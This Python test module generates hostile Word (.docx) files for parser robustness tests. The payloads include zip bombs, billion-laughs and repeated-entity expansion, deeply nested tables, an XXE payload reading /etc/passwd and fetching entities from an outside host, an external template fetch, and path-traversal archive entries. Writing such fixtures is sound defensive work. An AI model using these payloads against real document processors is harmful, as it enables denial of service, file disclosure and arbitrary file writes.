"""Hostile Word files."""

import struct

from tests.hostile.attack import MEGABYTE, attacks, elsewhere, packed, packed_bomb, parts_of, with_lying_size
from tests.kinds.cases import report
from tests.kinds.docx_writer import W, docx, package
from tests.kinds.pages import page

word = attacks("docx", {"fetches", "traversal", "small_that_says_it_is_huge"})
_OPEN = f'<?xml version="1.0"?><w:document xmlns:w="{W}"><w:body>'.encode()
_CLOSE = b"</w:body></w:document>"
_CELL = b"<w:tbl><w:tr><w:tc>"


def _report() -> bytes:
    return docx(page(report("full", 0)))


def _document(inside: bytes) -> bytes:
    return package(_OPEN + inside + _CLOSE)


@word
def cut_off() -> bytes:
    data = _report()
    return data[: len(data) * 2 // 3]


@word
def directory_alone() -> bytes:
    data = _report()
    return b"PK\x03\x04" + bytes(26) + data[data.rfind(b"PK\x01\x02") :]


@word
def bomb() -> bytes:
    return packed_bomb({}, "word/document.xml", _OPEN, b" ", 2000 * MEGABYTE)


@word
def bomb_of_paragraphs() -> bytes:
    return packed_bomb({}, "word/document.xml", _OPEN, b"<w:p><w:r><w:t>12</w:t></w:r></w:p>", 300 * MEGABYTE)


@word
def bomb_of_cells() -> bytes:
    return packed_bomb({}, "word/document.xml", _OPEN + b"<w:tbl><w:tr>", b"<w:tc><w:p/></w:tc>", 300 * MEGABYTE)


@word
def bomb_beside() -> bytes:
    return packed_bomb({"word/document.xml": _OPEN + _CLOSE}, "word/styles.xml", b"<a>", b" ", 1500 * MEGABYTE)


@word
def bomb_that_says_it_is_small() -> bytes:
    return with_lying_size(bomb(), b"word/document.xml", 1000)


@word
def small_that_says_it_is_huge() -> bytes:
    return with_lying_size(_report(), b"word/document.xml", 2**32 - 2)


@word
def many_parts() -> bytes:
    parts = {f"word/media/{number}": b"" for number in range(60_000)}
    return packed({"word/document.xml": _OPEN + _CLOSE, **parts}, level=1)


@word
def nested_tables() -> bytes:
    return _document(_CELL * 70_000 + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * 70_000)


@word
def nested_unclosed() -> bytes:
    return _document(_CELL * 70_000)


@word
def nested_controls() -> bytes:
    return _document(b"<w:sdt><w:sdtContent>" * 100_000 + b"</w:sdtContent></w:sdt>" * 100_000)


@word
def endless_spans() -> bytes:
    row = b'<w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr><w:p/></w:tc></w:tr>'
    return _document(b"<w:tbl>" + row * 3000 + b"</w:tbl>")


@word
def before_and_after_the_grid() -> bytes:
    row = b'<w:tr><w:trPr><w:gridBefore w:val="99999999"/><w:gridAfter w:val="-9"/></w:trPr><w:tc><w:p/></w:tc></w:tr>'
    return _document(b"<w:tbl>" + row * 3000 + b"</w:tbl>")


@word
def numbers_that_are_none() -> bytes:
    row = b'<w:tr><w:tc><w:tcPr><w:gridSpan w:val="x"/><w:tcW w:w="1e99"/></w:tcPr><w:p/></w:tc></w:tr>'
    return _document(b'<w:tbl><w:tblGrid><w:gridCol w:w=""/></w:tblGrid>' + row + b"</w:tbl>")


@word
def merged_without_end() -> bytes:
    row = b"<w:tr>" + b"<w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc>" * 60 + b"</w:tr>"
    return _document(b"<w:tbl>" + row * 10_000 + b"</w:tbl>")


@word
def laughs() -> bytes:
    entities = b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12))
    inside = b"<w:p><w:r><w:t>&a11;</w:t></w:r></w:p>"
    head = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a0 "ha">' + entities + b"]>"
    return package(head + _OPEN.partition(b"?>")[2] + inside + _CLOSE)


@word
def one_entity_often() -> bytes:
    head = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "' + b"1" * 100_000 + b'">]>'
    return package(head + _OPEN.partition(b"?>")[2] + b"<w:p><w:r><w:t>" + b"&a;" * 100_000)


@word
def external_entity() -> bytes:
    head = (
        b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "'
        + elsewhere()
        + b'/a"><!ENTITY % c SYSTEM "'
        + elsewhere()
        + b'/c">%c;]>'
    )
    return package(head + _OPEN.partition(b"?>")[2] + b"<w:p><w:r><w:t>&a;&b;</w:t></w:r></w:p>" + _CLOSE)


@word
def fetches() -> bytes:
    relations = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="'
        + elsewhere()
        + b'/a.dotm" TargetMode="External"/></Relationships>'
    )
    return with_parts(_report(), {"word/_rels/settings.xml.rels": relations, "word/_rels/document.xml.rels": relations})


@word
def traversal() -> bytes:
    return with_parts(_report(), {"../../evil": b"evil", "/tmp/evil": b"evil", "word/../../../evil": b"evil"})


@word
def not_xml() -> bytes:
    return package(b"\xff\xfe\x00<" * 1000)


@word
def other_root() -> bytes:
    return package(b"<nothing/>")


@word
def unknown_encoding() -> bytes:
    return package(b'<?xml version="1.0" encoding="no-such"?>' + _OPEN.partition(b"?>")[2] + _CLOSE)


@word
def long_text() -> bytes:
    return _document(b"<w:p><w:r><w:t>" + b"1" * (30 * MEGABYTE) + b"</w:t></w:r></w:p>")


@word
def part_with_a_password() -> bytes:
    changed = bytearray(_report())
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(sign)
        while at >= 0:
            struct.pack_into("<H", changed, at + place, 1)
            at = changed.find(sign, at + 4)
    return bytes(changed)


@word
def unknown_compression() -> bytes:
    changed = bytearray(_report())
    for sign, place in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        at = changed.find(sign)
        while at >= 0:
            struct.pack_into("<H", changed, at + place, 97)
            at = changed.find(sign, at + 4)
    return bytes(changed)


@word
def with_a_password() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000) + "EncryptedPackage".encode("utf-16-le") + bytes(5000)


def with_parts(data: bytes, more: dict[str, bytes]) -> bytes:
    """The archive with these parts too, or in place of its own."""
    return packed(parts_of(data) | more)
